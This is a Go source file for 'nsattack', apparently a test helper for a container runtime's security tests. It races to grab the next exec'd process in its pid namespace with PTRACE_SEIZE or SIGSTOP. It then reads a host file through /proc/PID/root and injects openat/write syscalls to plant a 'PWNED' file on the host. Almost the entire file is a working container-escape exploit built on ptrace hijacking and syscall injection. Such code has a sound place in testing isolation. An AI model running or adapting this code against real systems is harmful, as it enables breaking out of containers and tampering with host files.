// Command nsattack is a static helper the attack tests of issue 10 run
// inside containers: it lies in wait for the next process to appear in its
// pid namespace (an exec helper berth starts) and tries to take it over
// before it is out of reach.
//
//	nsattack catch MODE OUT HOSTREAD HOSTWRITE
//
// MODE is "seize" (PTRACE_SEIZE the newest pid as soon as the kernel lets
// it) or "stop" (SIGSTOP it as soon as the kernel lets it, and keep it
// only if it is still the host's root, uid 65534 as seen from a user
// namespace that does not map 0). Once it holds a process stopped under
// ptrace it reads HOSTREAD through the process's /proc/PID/root and makes
// the process create HOSTWRITE (injected system calls), then kills it.
// Each attempt's outcome is appended to OUT, one line; "caught ..." ends
// the run. It gives up when OUT's directory holds a file named "stop".
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 6 || os.Args[1] != "catch" {
		fmt.Fprintln(os.Stderr, "usage: nsattack catch seize|stop OUT HOSTREAD HOSTWRITE")
		os.Exit(2)
	}
	runtime.LockOSThread() // ptrace requests come from the tracer thread
	catch(os.Args[2], os.Args[3], os.Args[4], os.Args[5])
}

func lastPid() int {
	b, _ := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}

func logf(out, format string, a ...any) {
	f, err := os.OpenFile(out, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		return
	}
	fmt.Fprintf(f, format+"\n", a...)
	f.Close()
}

// statusOf is the Uid, Gid lines and state of pid's status.
func statusOf(pid int) (uid, gid, state string) {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "Uid:"); ok {
			uid = strings.Join(strings.Fields(v), ",")
		}
		if v, ok := strings.CutPrefix(l, "Gid:"); ok {
			gid = strings.Join(strings.Fields(v), ",")
		}
		if v, ok := strings.CutPrefix(l, "State:"); ok {
			state = strings.TrimSpace(v)
		}
	}
	return
}

func catch(mode, out, hostRead, hostWrite string) {
	stop := filepath.Join(filepath.Dir(out), "stop")
	self := os.Getpid()
	cand := lastPid() + 1
	logf(out, "armed %s pid %d", mode, self)
	for i := 1; ; i++ {
		if i%(1<<16) == 0 {
			if _, err := os.Stat(stop); err == nil {
				logf(out, "gave up")
				return
			}
		}
		if cand == self {
			cand++
		}
		var err error
		switch mode {
		case "seize":
			err = unix.PtraceSeize(cand)
		case "stop":
			err = unix.Kill(cand, unix.SIGSTOP)
		}
		switch err {
		case unix.ESRCH:
			// Not made yet, or made and gone: step past it once it is
			// allocated and still not there.
			if i%64 == 0 {
				if last := lastPid(); last >= cand && unix.Kill(cand, 0) == unix.ESRCH {
					cand++
				}
			}
			continue
		case unix.EPERM:
			// Not yet in reach (or never again): spin on it while it is
			// among the newest.
			if i%4096 == 0 {
				if last := lastPid(); last > cand+64 {
					cand = last + 1
				}
			}
			continue
		case nil:
		default:
			logf(out, "pid %d: %v", cand, err)
			cand++
			continue
		}
		if mode == "stop" {
			// Wait for the stop to land, then keep the process only if it
			// is still the host's root: uid and gid 65534 (unmapped).
			uid, gid, state := "", "", ""
			for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); {
				uid, gid, state = statusOf(cand)
				if !strings.HasPrefix(state, "R") && !strings.HasPrefix(state, "S") && !strings.HasPrefix(state, "D") {
					break
				}
			}
			if !strings.HasPrefix(uid, "65534,") {
				cont(cand)
				logf(out, "missed pid %d uid %s gid %s state %s", cand, uid, gid, state)
				// Let this exec end (its threads take the next pids),
				// then lie in wait for the next.
				for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline) && unix.Kill(cand, 0) == nil; {
					time.Sleep(100 * time.Microsecond)
				}
				cand = lastPid() + 1
				continue
			}
			if err := unix.PtraceSeize(cand); err != nil {
				logf(out, "stopped pid %d as uid %s gid %s but seize: %v", cand, uid, gid, err)
				unix.Kill(cand, unix.SIGKILL)
				cand = lastPid() + 1
				continue
			}
		}
		if take(out, cand, hostRead, hostWrite) {
			return
		}
		cand = lastPid() + 1
	}
}

// cont lets a process stopped by mistake go on.
func cont(pid int) {
	for j := 0; j < 1000; j++ {
		unix.Kill(pid, unix.SIGCONT)
		if _, _, state := statusOf(pid); !strings.HasPrefix(state, "T") {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// take holds the seized pid stopped, shows what it reaches, and makes it
// create hostWrite. It reports whether either worked.
func take(out string, pid int, hostRead, hostWrite string) bool {
	defer release(pid)
	if err := unix.PtraceInterrupt(pid); err != nil {
		logf(out, "interrupt %d: %v", pid, err)
		return false
	}
	if ws, err := waitStop(pid); err != nil {
		logf(out, "wait %d: %v %v", pid, err, ws)
		return false
	}
	uid, gid, _ := statusOf(pid)
	exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/root%s", pid, hostRead))
	read := strings.TrimSpace(string(b))
	if err != nil {
		read = err.Error()
	}
	inj := inject(pid, hostWrite)
	got := err == nil || strings.HasPrefix(inj, "created")
	word := "held"
	if got {
		word = "caught"
	}
	logf(out, "%s pid %d uid %s gid %s exe %s read %q inject %s", word, pid, uid, gid, exe, read, inj)
	return got
}

// inject makes the stopped tracee run openat(AT_FDCWD, path,
// O_WRONLY|O_CREAT|O_EXCL, 0644) and write "PWNED\n" to it, at the
// system call instruction it stopped after.
func inject(pid int, path string) string {
	var regs unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &regs); err != nil {
		return "getregs: " + err.Error()
	}
	// A syscall instruction: the tracee stopped in or after one, or find
	// one in its text.
	sc, err := findSyscall(pid, regs.Rip)
	if err != nil {
		return err.Error()
	}
	scratch, err := writable(pid)
	if err != nil {
		return err.Error()
	}
	data := append([]byte(path), 0)
	for len(data)%8 != 0 {
		data = append(data, 0)
	}
	msg := []byte("PWNED\n\x00\x00")
	if _, err := unix.PtracePokeData(pid, scratch, data); err != nil {
		return "poke: " + err.Error()
	}
	if _, err := unix.PtracePokeData(pid, scratch+uintptr(len(data)), msg); err != nil {
		return "poke: " + err.Error()
	}
	fd, err := syscallIn(pid, regs, sc, unix.SYS_OPENAT, ^uint64(99), uint64(scratch), unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL, 0o644)
	if err != nil {
		return "openat: " + err.Error()
	}
	if int64(fd) < 0 {
		return "openat: " + unix.Errno(-int64(fd)).Error()
	}
	n, err := syscallIn(pid, regs, sc, unix.SYS_WRITE, fd, uint64(scratch)+uint64(len(data)), 6, 0)
	if err != nil {
		return "write: " + err.Error()
	}
	return fmt.Sprintf("created (fd %d, wrote %d)", fd, int64(n))
}

// findSyscall finds a syscall instruction (0f 05): just before rip, or in
// the first pages of the tracee's text.
func findSyscall(pid int, rip uint64) (uintptr, error) {
	b := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(rip-2), b); err == nil && b[0] == 0x0f && b[1] == 0x05 {
		return uintptr(rip - 2), nil
	}
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, fmt.Errorf("maps: %w", err)
	}
	for _, l := range strings.Split(string(maps), "\n") {
		f := strings.Fields(l)
		if len(f) < 2 || !strings.Contains(f[1], "x") {
			continue
		}
		lo, hi := rangeOf(f[0])
		buf := make([]byte, 4096)
		for a := lo; a < hi && a < lo+1<<20; a += 4096 {
			if _, err := unix.PtracePeekText(pid, a, buf); err != nil {
				break
			}
			for i := 0; i+1 < len(buf); i++ {
				if buf[i] == 0x0f && buf[i+1] == 0x05 {
					return a + uintptr(i), nil
				}
			}
		}
	}
	return 0, fmt.Errorf("no syscall instruction")
}

// writable is the start of the tracee's first private writable mapping.
func writable(pid int) (uintptr, error) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, fmt.Errorf("maps: %w", err)
	}
	for _, l := range strings.Split(string(maps), "\n") {
		f := strings.Fields(l)
		if len(f) >= 2 && strings.HasPrefix(f[1], "rw") {
			lo, _ := rangeOf(f[0])
			return lo, nil
		}
	}
	return 0, fmt.Errorf("no writable mapping")
}

func rangeOf(s string) (uintptr, uintptr) {
	a, b, _ := strings.Cut(s, "-")
	lo, _ := strconv.ParseUint(a, 16, 64)
	hi, _ := strconv.ParseUint(b, 16, 64)
	return uintptr(lo), uintptr(hi)
}

// syscallIn runs one system call in the stopped tracee and returns its
// result.
func syscallIn(pid int, saved unix.PtraceRegs, at uintptr, nr uint64, a1, a2, a3, a4 uint64) (uint64, error) {
	r := saved
	r.Rax, r.Orig_rax = nr, ^uint64(0)
	r.Rdi, r.Rsi, r.Rdx, r.R10 = a1, a2, a3, a4
	r.Rip = uint64(at)
	if err := unix.PtraceSetRegs(pid, &r); err != nil {
		return 0, fmt.Errorf("setregs: %w", err)
	}
	if err := unix.PtraceSingleStep(pid); err != nil {
		return 0, fmt.Errorf("step: %w", err)
	}
	if _, err := waitStop(pid); err != nil {
		return 0, fmt.Errorf("after the step: %w", err)
	}
	if err := unix.PtraceGetRegs(pid, &r); err != nil {
		return 0, fmt.Errorf("getregs: %w", err)
	}
	return r.Rax, nil
}

// waitStop waits, a few seconds at most, for the tracee to stop.
func waitStop(pid int) (unix.WaitStatus, error) {
	var ws unix.WaitStatus
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		wp, err := unix.Wait4(pid, &ws, unix.WALL|unix.WNOHANG, nil)
		if err != nil {
			return ws, err
		}
		if wp == pid {
			if !ws.Stopped() {
				return ws, fmt.Errorf("not stopped: %v", ws)
			}
			return ws, nil
		}
	}
	return ws, fmt.Errorf("no stop")
}

// release kills the tracee and reaps it as its tracer: until then its
// parent (berth) could not.
func release(pid int) {
	unix.Kill(pid, unix.SIGKILL)
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
		var ws unix.WaitStatus
		wp, err := unix.Wait4(pid, &ws, unix.WALL|unix.WNOHANG, nil)
		if err != nil || wp == pid && (ws.Exited() || ws.Signaled()) {
			return
		}
	}
}
